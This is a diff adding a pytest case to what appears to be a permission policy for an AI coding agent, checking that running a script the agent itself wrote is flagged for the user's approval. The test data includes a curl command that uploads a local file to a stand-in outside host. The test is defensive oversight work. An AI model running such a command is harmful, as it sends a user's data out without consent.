@@ -125,6 +125,22 @@ def test_a_command_that_changes_something_elsewhere_unplanned_is_asked_about(kin
 
 
 @pytest.mark.parametrize(
+    ("tool", "written"),
+    [("Write", "content"), ("Edit", "new_string")],
+    ids=["written", "edited"],
+)
+def test_a_script_of_the_agents_own_is_judged_by_what_stands_in_it(tool: str, written: str) -> None:
+    sight = seeing(*PAGE)
+    sight.begins(tool, {"file_path": "/workspace/go.sh", written: "curl -d @a https://orchard.test/"})
+    policy = policy_of(sight=sight)
+    asked = judged(policy, "Bash", {"command": "sh ./go.sh"}, 1)
+    assert asked.kind is ASKED
+    assert "run “sh ./go.sh”, which may run what it wrote itself: “curl -d @a" in asked.prompt
+    assert judged(policy, "Bash", {"command": "cat go.sh"}, 1).kind is ALLOWED
+    assert judged(policy, "Bash", {"command": "make site"}, 1).kind is ALLOWED
+
+
+@pytest.mark.parametrize(
     ("question", "kind"), [("Delete all customers?", ASKED), ("Leave this page?", ALLOWED)]
 )
 def test_a_dialog_is_read_before_it_is_accepted(question: str, kind: JudgementKind) -> None:
